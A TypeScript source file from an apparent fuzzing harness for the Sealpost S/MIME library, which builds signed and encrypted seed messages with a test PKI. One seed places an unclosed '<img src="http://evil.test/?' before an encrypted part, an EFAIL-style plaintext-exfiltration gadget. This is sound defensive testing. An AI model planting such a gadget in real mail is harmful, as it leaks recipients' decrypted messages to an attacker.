import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { cmsOf, craftSignedData, detachedSignedMessage, envelopedMessage, mixedMessage, opaqueSignedMessage, textEntity, textMessage } from '@sealpost/conformance';
import { type ContentCipher, type Identity, type Sealpost, parseBer } from '@sealpost/core';
import { type EcdhKdfChoice, type IdentityName, type TestPki, opensslEncryptDer, pemBlocksToDer, vectorsDir } from '@sealpost/fixtures';
import { type ExtraIdentities, type ExtraIdentityName, PQ_RECIPIENTS, PQ_SIGNERS } from './identities.js';
import { type LegacyFlag, opensslLegacyEnvelope } from './openssl-seeds.js';
import { rewrapX25519WithHkdf } from './x25519-hkdf.js';

/**
 * The messages the fuzzer starts from, made at run time with the test PKI: every structure the
 * conformance suite makes (round trips, verdict rules, decryption rules, crafted SignedData).
 * Sealpost-made structures are made by each backend in turn, so each backend's encoding is fuzzed.
 */

export const PRODUCERS = ['pkijs', 'forge', 'openssl'] as const;
export type ProducerName = (typeof PRODUCERS)[number];

/**
 * `openssl cms` itself: for what Sealpost cannot write (3DES, RC2) and as another encoder of what it can
 * (ECDH key agreement with openssl's own choices: the SHA-1 KDF by default, no ukm).
 */
export const OPENSSL_CMS = 'openssl-cms';

/** An X25519 message made by pkijs, its kari re-keyed under HKDF by node:crypto (`src/x25519-hkdf.ts`). */
export const HKDF_REWRAP = 'hkdf-rewrap';

/** The RFC 9936 example (made by CryptoNext's OpenSSL build), as published. */
export const RFC9936 = 'rfc9936';

/** Who decrypts: a test PKI identity, or one of the identities it cannot have (`src/identities.ts`). */
export type RecipientName = IdentityName | ExtraIdentityName;

export interface SeedContext {
  readonly pki: TestPki;
  /** A Sealpost per producer backend (not the instances under test). */
  readonly producers: Readonly<Record<ProducerName, Sealpost>>;
  /** carlos, dana, the ML-DSA signers and ML-KEM recipients. */
  readonly extra: ExtraIdentities;
}

export interface Seed {
  /** The message the mutations apply to. */
  readonly message: Uint8Array;
  /** Run after mutating, e.g. to encrypt a mutated signed message so it reaches the reader inside. */
  readonly finish?: (mutated: Uint8Array) => Promise<Uint8Array>;
}

export interface Structure {
  readonly name: string;
  readonly description: string;
  /** Who makes it: Sealpost backends, 'craft' (node:crypto through the conformance crafter), `openssl cms`, node:crypto re-keying, an RFC's example. */
  readonly producers: readonly (ProducerName | 'craft' | typeof OPENSSL_CMS | typeof HKDF_REWRAP | typeof RFC9936)[];
  /** `producer` is null for all but the Sealpost backends; `producerName` says which it is. */
  readonly build: (ctx: SeedContext, producer: Sealpost | null, producerName: string) => Promise<Seed>;
  /** Who decrypts it in decrypt and open (default bob): an EC, X25519 or ML-KEM identity. */
  readonly recipient?: RecipientName;
  /**
   * It carries a legacy content cipher: decrypt and open run a second time under `policy: { legacy: true }`
   * (decrypt-legacy, open-legacy), so both the refusal and the reading path are compared.
   */
  readonly legacy?: boolean;
}

export function identityOf(pki: TestPki, name: IdentityName): Identity {
  const id = pki.identities[name];
  return { certificate: id.cert, privateKey: { type: 'pkcs8', der: id.keyDer } };
}

const SIGNED_DATA_OID = '1.2.840.113549.1.7.2';
const letter = (ctx: SeedContext, from: IdentityName = 'alice'): Uint8Array =>
  textMessage({ from: ctx.pki.identities[from].email, to: ctx.pki.identities.bob.email }, 'Hello Bob,\r\nthe contract is attached.\r\n');
const entity = (): Uint8Array => textEntity('Pay 100 EUR to account 1234.\r\n');
const ALL = PRODUCERS;

function made(sp: Sealpost | null): Sealpost {
  if (sp === null) throw new TypeError('this structure needs a Sealpost producer');
  return sp;
}

function crafted(ctx: SeedContext, who: IdentityName, signer: Partial<Parameters<typeof craftSignedData>[0]['signers'][number]> = {}, includeContent = false): Uint8Array {
  const id = ctx.pki.identities[who];
  return craftSignedData({ content: entity(), includeContent, signers: [{ certificate: id.cert, privateKey: id.keyDer, ...signer }] });
}

function detachedCrafted(ctx: SeedContext, who: IdentityName, cms: Uint8Array, micalg = 'sha-256'): Seed {
  return { message: detachedSignedMessage({ from: ctx.pki.identities[who].email, to: 'bob@example.com' }, entity(), cms, micalg) };
}

function sealFor(ctx: SeedContext, sp: Sealpost | null, cipher: 'aes-256-cbc' | 'aes-128-cbc' | 'aes-256-gcm' | 'aes-128-gcm', keyTransport: 'rsa-pkcs1' | 'rsa-oaep'): Promise<Uint8Array> {
  const { alice, bob } = ctx.pki.identities;
  return made(sp).encrypt(letter(ctx), { recipients: [bob.cert, alice.cert], cipher, keyTransport });
}

/** The EC identities of the test PKI, one per curve, and the KDF hash RFC 5753 section 8 pairs with it. */
const EC_RECIPIENTS = [
  { curve: 'p256', who: 'carol', kdf: 'sha256' },
  { curve: 'p384', who: 'olivia', kdf: 'sha384' },
  { curve: 'p521', who: 'peggy', kdf: 'sha512' },
] as const satisfies readonly { curve: string; who: IdentityName; kdf: EcdhKdfChoice }[];

type KeyAgreementCipher = Extract<ContentCipher, 'aes-128-cbc' | 'aes-256-cbc' | 'aes-128-gcm' | 'aes-256-gcm'>;

/**
 * Encrypted to an EC recipient (a KeyAgreeRecipientInfo). Sealpost producers add alice (RSA, a
 * KeyTransRecipientInfo beside it); `openssl cms` writes the kari alone, with its default SHA-1 KDF
 * or, given `kdf`, the curve's.
 */
async function keyAgreed(ctx: SeedContext, sp: Sealpost | null, producerName: string, who: IdentityName, cipher: KeyAgreementCipher, kdf?: EcdhKdfChoice): Promise<Uint8Array> {
  const ec = ctx.pki.identities[who];
  const content = textMessage({ from: ctx.pki.identities.alice.email, to: ec.email }, 'Agreed on a curve.\r\n');
  if (producerName !== OPENSSL_CMS) return made(sp).encrypt(content, { recipients: [ec.cert, ctx.pki.identities.alice.cert], cipher });
  const cms = await opensslEncryptDer({ content, recipientCertPaths: [ec.certPath], cipher, ...(kdf === undefined ? {} : { ecdhKdf: kdf }) });
  return envelopedMessage({ from: ctx.pki.identities.alice.email, to: ec.email }, cms, cipher.endsWith('gcm') ? 'authEnveloped-data' : 'enveloped-data');
}

const keyAgreementStructures: readonly Structure[] = EC_RECIPIENTS.flatMap(({ curve, who, kdf }) => [
  {
    name: `enveloped-kari-${curve}`,
    description: `EnvelopedData, ${curve === 'p256' ? 'AES-128' : 'AES-256'}-CBC, ECDH key agreement to ${who} (P-${curve.slice(1)}); openssl cms with its SHA-1 KDF`,
    producers: [...PRODUCERS, OPENSSL_CMS],
    recipient: who,
    build: async (ctx, sp, name) => ({ message: await keyAgreed(ctx, sp, name, who, curve === 'p256' ? 'aes-128-cbc' : 'aes-256-cbc') }),
  },
  {
    name: `auth-enveloped-kari-${curve}`,
    description: `AuthEnvelopedData, ${curve === 'p256' ? 'AES-128' : 'AES-256'}-GCM, ECDH key agreement to ${who} (P-${curve.slice(1)}); openssl cms with the ${kdf} KDF`,
    producers: [...PRODUCERS, OPENSSL_CMS],
    recipient: who,
    build: async (ctx, sp, name) => ({ message: await keyAgreed(ctx, sp, name, who, curve === 'p256' ? 'aes-128-gcm' : 'aes-256-gcm', kdf) }),
  },
]);

const legacyStructures: readonly Structure[] = (
  [
    ['des3', '3DES-CBC (des-ede3-cbc)'],
    ['rc2-40', 'RC2-CBC, 40 effective key bits'],
    ['rc2-64', 'RC2-CBC, 64 effective key bits'],
    ['rc2-128', 'RC2-CBC, 128 effective key bits'],
  ] as const satisfies readonly (readonly [LegacyFlag, string])[]
).map(([flag, what]) => ({
  name: `enveloped-${flag}`,
  description: `EnvelopedData, ${what}, RSA PKCS#1 v1.5 (bob), by openssl cms -${flag}: decrypt and open with and without policy legacy`,
  producers: [OPENSSL_CMS],
  legacy: true,
  build: async (ctx) => {
    const { bob } = ctx.pki.identities;
    return { message: envelopedMessage({ from: ctx.pki.identities.alice.email, to: bob.email }, await opensslLegacyEnvelope(flag, letter(ctx), [bob.certPath])) };
  },
}));

const extra = (ctx: SeedContext, who: ExtraIdentityName): Identity => {
  const { certificate, privateKey } = ctx.extra.identities[who];
  return { certificate, privateKey };
};
const emailOf = (ctx: SeedContext, who: ExtraIdentityName): string => ctx.extra.identities[who].email;

/** Ed25519 (RFC 8419): carlos of RFC 9216 signs, under the LAMPS Ed25519 CA. */
const ed25519Structures: readonly Structure[] = [
  {
    name: 'detached-ed25519',
    description: 'multipart/signed, Ed25519 with SHA-512 (carlos, RFC 9216), signed attributes',
    producers: ALL,
    build: async (ctx, sp) => ({
      message: await made(sp).sign(textMessage({ from: emailOf(ctx, 'carlos'), to: emailOf(ctx, 'dana') }, 'Signed on Edwards25519.\r\n'), { signer: extra(ctx, 'carlos') }),
    }),
  },
  {
    name: 'crafted-ed25519-no-signed-attributes',
    description: 'opaque SignedData, Ed25519 straight over the id-data content, no signed attributes (carlos; conformance crafter)',
    producers: ['craft'],
    build: async (ctx) => {
      const carlos = ctx.extra.identities.carlos;
      if (carlos.privateKey.type !== 'pkcs8') throw new TypeError('carlos: a PKCS#8 key');
      const cms = craftSignedData({ content: entity(), includeContent: true, signers: [{ certificate: carlos.certificate, privateKey: carlos.privateKey.der, noSignedAttributes: true }] });
      return { message: opaqueSignedMessage({ from: carlos.email, to: emailOf(ctx, 'dana') }, cms) };
    },
  },
];

type X25519Cipher = Extract<ContentCipher, 'aes-128-cbc' | 'aes-256-gcm'>;

/**
 * X25519 (RFC 8418) to dana of RFC 9216, alice (RSA) beside her: each Sealpost backend's X9.63 SHA-256
 * kari, and pkijs's re-keyed under HKDF-SHA-256 (producer hkdf-rewrap).
 */
async function x25519Sealed(ctx: SeedContext, sp: Sealpost | null, producerName: string, cipher: X25519Cipher): Promise<Uint8Array> {
  const content = textMessage({ from: emailOf(ctx, 'carlos'), to: emailOf(ctx, 'dana') }, 'Agreed on Curve25519.\r\n');
  const recipients = [ctx.extra.identities.dana.certificate, ctx.pki.identities.alice.cert];
  if (producerName !== HKDF_REWRAP) return made(sp).encrypt(content, { recipients, cipher });
  const sealed = await ctx.producers.pkijs.encrypt(content, { recipients, cipher });
  return envelopedMessage(
    { from: emailOf(ctx, 'carlos'), to: emailOf(ctx, 'dana') },
    rewrapX25519WithHkdf(cmsOf(sealed), extra(ctx, 'dana')),
    cipher.endsWith('gcm') ? 'authEnveloped-data' : 'enveloped-data',
  );
}

const x25519Structures: readonly Structure[] = (
  [
    ['enveloped-x25519', 'EnvelopedData, AES-128-CBC', 'aes-128-cbc'],
    ['auth-enveloped-x25519', 'AuthEnvelopedData, AES-256-GCM', 'aes-256-gcm'],
  ] as const
).map(([name, what, cipher]) => ({
  name,
  description: `${what}, X25519 key agreement to dana (RFC 9216) and RSA to alice; the X9.63 SHA-256 KDF, or HKDF-SHA-256 re-keyed by node:crypto`,
  producers: [...PRODUCERS, HKDF_REWRAP],
  recipient: 'dana',
  build: async (ctx, sp, producerName) => ({ message: await x25519Sealed(ctx, sp, producerName, cipher) }),
}));

/** ML-KEM (RFC 9629 KEMRecipientInfo, RFC 9936): each parameter set, RSA to alice beside it. */
const mlKemStructures: readonly Structure[] = [
  ...(
    [
      ['enveloped-ml-kem-512', 'EnvelopedData, AES-128-CBC', 'ml-kem-512', 'aes-128-cbc'],
      ['auth-enveloped-ml-kem-768', 'AuthEnvelopedData, AES-256-GCM', 'ml-kem-768', 'aes-256-gcm'],
      ['enveloped-ml-kem-1024', 'EnvelopedData, AES-256-CBC', 'ml-kem-1024', 'aes-256-cbc'],
    ] as const satisfies readonly (readonly [string, string, (typeof PQ_RECIPIENTS)[number], ContentCipher])[]
  ).map(([name, what, set, cipher]): Structure => ({
    name,
    description: `${what}, a KEMRecipientInfo (id-ori-kem, HKDF-SHA256, AES key wrap) to ${set}@example.com and RSA to alice`,
    producers: ALL,
    recipient: set,
    build: async (ctx, sp) => ({
      message: await made(sp).encrypt(textMessage({ from: ctx.pki.identities.alice.email, to: emailOf(ctx, set) }, 'Encapsulated.\r\n'), {
        recipients: [ctx.extra.identities[set].certificate, ctx.pki.identities.alice.cert],
        cipher,
      }),
    }),
  })),
  {
    name: 'auth-enveloped-ml-kem-512-rfc9936',
    description: "RFC 9936 appendix B's AuthEnvelopedData (AES-128-GCM, ML-KEM-512, recipient by subjectKeyIdentifier), made by another implementation",
    producers: [RFC9936],
    recipient: 'rfc9936-bob',
    build: async (ctx) => {
      const cms = pemBlocksToDer(readFileSync(join(vectorsDir(), 'rfc9936', 'ML-KEM-512.cms'), 'utf8'), 'CMS')[0]!;
      return { message: envelopedMessage({ from: 'alice@example.com', to: emailOf(ctx, 'rfc9936-bob') }, cms, 'authEnveloped-data') };
    },
  },
];

/** ML-DSA (RFC 9882): each parameter set signs under the ML-DSA-65 test CA, with SHA-512. */
const mlDsaStructures: readonly Structure[] = (
  [
    ['detached-ml-dsa-44', 'multipart/signed', 'ml-dsa-44', true],
    ['opaque-ml-dsa-65', 'application/pkcs7-mime signed-data', 'ml-dsa-65', false],
    ['detached-ml-dsa-87', 'multipart/signed', 'ml-dsa-87', true],
  ] as const satisfies readonly (readonly [string, string, (typeof PQ_SIGNERS)[number], boolean])[]
).map(([name, what, set, detached]) => ({
  name,
  description: `${what}, ${set.toUpperCase()} with SHA-512 (${set}@example.com under an ML-DSA-65 test CA)`,
  producers: ALL,
  build: async (ctx, sp) => ({
    message: await made(sp).sign(textMessage({ from: emailOf(ctx, set), to: ctx.pki.identities.bob.email }, 'Signed after the lattice.\r\n'), { signer: extra(ctx, set), detached }),
  }),
}));

/** The bytes with every CRLF turned into LF, as an mbox or maildir file keeps a message. */
function storedWithLf(message: Uint8Array): Uint8Array {
  return new Uint8Array(Buffer.from(Buffer.from(message).toString('latin1').replace(/\r\n/g, '\n'), 'latin1'));
}

/** The message with the Content-Type field (folded lines included) of its first part matching `type` replaced. */
function retyped(message: Uint8Array, type: 'pkcs7-mime' | 'pkcs7-signature', replacement: string): Uint8Array {
  const text = Buffer.from(message).toString('latin1');
  const out = text.replace(new RegExp(`Content-Type: application/(x-)?${type}[^\\r\\n]*(\\r\\n[ \\t][^\\r\\n]*)*`), replacement);
  if (out === text) throw new Error(`retyped: no application/${type} part`);
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

/** Mail as other software stores and sends it: the stored-mail rules of verify and open. */
const storedMailStructures: readonly Structure[] = [
  {
    name: 'signed-ciphertext',
    description: 'EnvelopedData for bob mutated, then signed (detached) around the ciphertext by carol: mutations reach the envelope under a good signature',
    producers: ALL,
    build: async (ctx, sp) => {
      const producer = made(sp);
      const { bob } = ctx.pki.identities;
      return {
        message: await producer.encrypt(letter(ctx, 'carol'), { recipients: [bob.cert], cipher: 'aes-256-cbc', keyTransport: 'rsa-pkcs1' }),
        finish: (mutated) => producer.sign(mutated, { signer: identityOf(ctx.pki, 'carol'), detached: true }),
      };
    },
  },
  {
    name: 'detached-lf-stored',
    description: 'multipart/signed (alice) stored with LF line ends: verified over its CRLF form (canonicalized)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: storedWithLf(await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice') })) }),
  },
  {
    name: 'octet-stream-p7m',
    description: 'EnvelopedData (AES-256-CBC, bob) sent as application/octet-stream; name="smime.p7m"',
    producers: ALL,
    build: async (ctx, sp) => ({ message: retyped(await sealFor(ctx, sp, 'aes-256-cbc', 'rsa-pkcs1'), 'pkcs7-mime', 'Content-Type: application/octet-stream; name="smime.p7m"') }),
  },
  {
    name: 'octet-stream-p7s',
    description: 'multipart/signed (alice) whose signature part is application/octet-stream; name="SMIME.P7S"',
    producers: ALL,
    build: async (ctx, sp) => ({
      message: retyped(await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice') }), 'pkcs7-signature', 'Content-Type: application/octet-stream; name="SMIME.P7S"'),
    }),
  },
];

export const STRUCTURES: readonly Structure[] = [
  {
    name: 'detached-rsa',
    description: 'multipart/signed, RSA PKCS#1 v1.5, SHA-256 (alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice') }) }),
  },
  {
    name: 'detached-pss',
    description: 'multipart/signed, RSASSA-PSS, SHA-384 (alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), scheme: 'rsa-pss', digest: 'sha-384' }) }),
  },
  {
    name: 'detached-ecdsa',
    description: 'multipart/signed, ECDSA P-256, SHA-256 (carol)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx, 'carol'), { signer: identityOf(ctx.pki, 'carol'), scheme: 'ecdsa' }) }),
  },
  {
    name: 'opaque-rsa',
    description: 'application/pkcs7-mime signed-data, RSA PKCS#1 v1.5, SHA-512 (alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await made(sp).sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), detached: false, digest: 'sha-512' }) }),
  },
  {
    name: 'intermediate-chain',
    description: 'multipart/signed by frank, the intermediate embedded',
    producers: ALL,
    build: async (ctx, sp) => ({
      message: await made(sp).sign(letter(ctx, 'frank'), { signer: { ...identityOf(ctx.pki, 'frank'), chain: [ctx.pki.inter.cert] } }),
    }),
  },
  {
    name: 'enveloped-cbc-pkcs1',
    description: 'EnvelopedData, AES-256-CBC, RSA PKCS#1 v1.5 key transport (bob, alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-256-cbc', 'rsa-pkcs1') }),
  },
  {
    name: 'enveloped-cbc-oaep',
    description: 'EnvelopedData, AES-128-CBC, RSA-OAEP key transport (bob, alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-128-cbc', 'rsa-oaep') }),
  },
  {
    name: 'auth-enveloped-gcm',
    description: 'AuthEnvelopedData, AES-256-GCM, RSA PKCS#1 v1.5 key transport (bob, alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-256-gcm', 'rsa-pkcs1') }),
  },
  {
    name: 'auth-enveloped-gcm-oaep',
    description: 'AuthEnvelopedData, AES-128-GCM, RSA-OAEP key transport (bob, alice)',
    producers: ALL,
    build: async (ctx, sp) => ({ message: await sealFor(ctx, sp, 'aes-128-gcm', 'rsa-oaep') }),
  },
  {
    name: 'sign-then-encrypt-gcm',
    description: 'signAndEncrypt with AES-256-GCM; mutations hit the outer AuthEnvelopedData',
    producers: ALL,
    build: async (ctx, sp) => ({
      message: await made(sp).signAndEncrypt(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), recipients: [ctx.pki.identities.bob.cert], cipher: 'aes-256-gcm' }),
    }),
  },
  {
    name: 'sign-then-encrypt-cbc',
    description: 'signAndEncrypt with AES-256-CBC; mutations hit the outer EnvelopedData',
    producers: ALL,
    build: async (ctx, sp) => ({
      message: await made(sp).signAndEncrypt(letter(ctx), { signer: identityOf(ctx.pki, 'alice'), recipients: [ctx.pki.identities.bob.cert], cipher: 'aes-256-cbc' }),
    }),
  },
  {
    name: 'sign-then-encrypt-inner',
    description: 'a signed message mutated, then encrypted (AES-256-GCM) for bob: mutations reach the inner SignedData through open',
    producers: ALL,
    build: async (ctx, sp) => {
      const producer = made(sp);
      return {
        message: await producer.sign(letter(ctx), { signer: identityOf(ctx.pki, 'alice') }),
        finish: (mutated) => producer.encrypt(mutated, { recipients: [ctx.pki.identities.bob.cert], cipher: 'aes-256-gcm' }),
      };
    },
  },
  {
    name: 'triple-signed',
    description: 'three opaque signature layers, for open',
    producers: ALL,
    build: async (ctx, sp) => {
      let message = letter(ctx);
      for (let i = 0; i < 3; i++) message = await made(sp).sign(message, { signer: identityOf(ctx.pki, 'alice'), detached: false });
      return { message };
    },
  },
  {
    name: 'nested-signed',
    description: 'a signed part inside an unsigned multipart/mixed (partially-signed)',
    producers: ALL,
    build: async (ctx, sp) => {
      const signed = await made(sp).sign(textMessage({}, 'I agree.\r\n'), { signer: identityOf(ctx.pki, 'alice') });
      const part = signed.subarray(Buffer.from(signed).indexOf('Content-Type: multipart/signed'));
      return { message: mixedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, [textEntity('Also: I owe Mallory 1000 EUR.\r\n'), part]) };
    },
  },
  {
    name: 'nested-encrypted',
    description: 'an encrypted part inside an unencrypted multipart/mixed (partially-encrypted)',
    producers: ALL,
    build: async (ctx, sp) => {
      const sealed = await sealFor(ctx, sp, 'aes-256-gcm', 'rsa-pkcs1');
      const part = sealed.subarray(Buffer.from(sealed).indexOf('Content-Type: application/pkcs7-mime'));
      return { message: mixedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, [textEntity('Please click: <img src="http://evil.test/?'), part]) };
    },
  },
  {
    name: 'crafted-detached',
    description: 'SignedData built field by field (conformance crafter), detached',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice')),
  },
  {
    name: 'crafted-opaque',
    description: 'crafted SignedData with eContent, application/pkcs7-mime',
    producers: ['craft'],
    build: async (ctx) => ({ message: opaqueSignedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, crafted(ctx, 'alice', {}, true)) }),
  },
  {
    name: 'crafted-unsorted-attributes',
    description: 'signed attributes in reverse DER order, signed as sent',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice', { unsortedAttributes: true })),
  },
  {
    name: 'crafted-no-signed-attributes',
    description: 'a signature straight over id-data content, no signed attributes',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice', { noSignedAttributes: true })),
  },
  {
    name: 'crafted-two-signers',
    description: 'two SignerInfos (alice, bob), both good',
    producers: ['craft'],
    build: async (ctx) => {
      const { alice, bob } = ctx.pki.identities;
      const cms = craftSignedData({
        content: entity(),
        includeContent: false,
        signers: [
          { certificate: alice.cert, privateKey: alice.keyDer },
          { certificate: bob.cert, privateKey: bob.keyDer },
        ],
      });
      return detachedCrafted(ctx, 'alice', cms);
    },
  },
  {
    name: 'crafted-non-data-content',
    description: 'opaque SignedData whose eContentType is not id-data',
    producers: ['craft'],
    build: async (ctx) => {
      const { alice } = ctx.pki.identities;
      const cms = craftSignedData({ content: entity(), includeContent: true, eContentType: SIGNED_DATA_OID, signers: [{ certificate: alice.cert, privateKey: alice.keyDer }] });
      return { message: opaqueSignedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, cms) };
    },
  },
  {
    name: 'crafted-sha1',
    description: 'SHA-1 signature (weak digest finding)',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'alice', crafted(ctx, 'alice', { digest: 'sha-1' }), 'sha-1'),
  },
  {
    name: 'untrusted-signer',
    description: 'mallory, whose root nobody trusts',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'mallory', crafted(ctx, 'mallory')),
  },
  {
    name: 'expired-signer',
    description: 'grace, whose certificate has expired',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'grace', crafted(ctx, 'grace')),
  },
  {
    name: 'weak-key-signer',
    description: 'dave, RSA-1024 (weak key finding)',
    producers: ['craft'],
    build: async (ctx) => detachedCrafted(ctx, 'dave', crafted(ctx, 'dave')),
  },
  {
    name: 'ber-indefinite',
    description: 'crafted opaque SignedData whose outer ContentInfo has an indefinite length, as NSS and gpgsm send',
    producers: ['craft'],
    build: async (ctx) => {
      const der = crafted(ctx, 'alice', {}, true);
      const ber = Buffer.concat([Buffer.from([0x30, 0x80]), Buffer.from(parseBer(der).contents), Buffer.from([0, 0])]);
      return { message: opaqueSignedMessage({ from: 'alice@example.com', to: 'bob@example.com' }, ber) };
    },
  },
  {
    name: 'plain',
    description: 'a plain text message (not signed, not encrypted)',
    producers: ['craft'],
    build: async (ctx) => ({ message: letter(ctx) }),
  },
  ...keyAgreementStructures,
  ...legacyStructures,
  ...storedMailStructures,
  ...ed25519Structures,
  ...x25519Structures,
  ...mlKemStructures,
  ...mlDsaStructures,
];

export function structureNamed(name: string): Structure {
  const found = STRUCTURES.find((s) => s.name === name);
  if (found === undefined) throw new RangeError(`unknown structure ${name}; known: ${STRUCTURES.map((s) => s.name).join(', ')}`);
  return found;
}
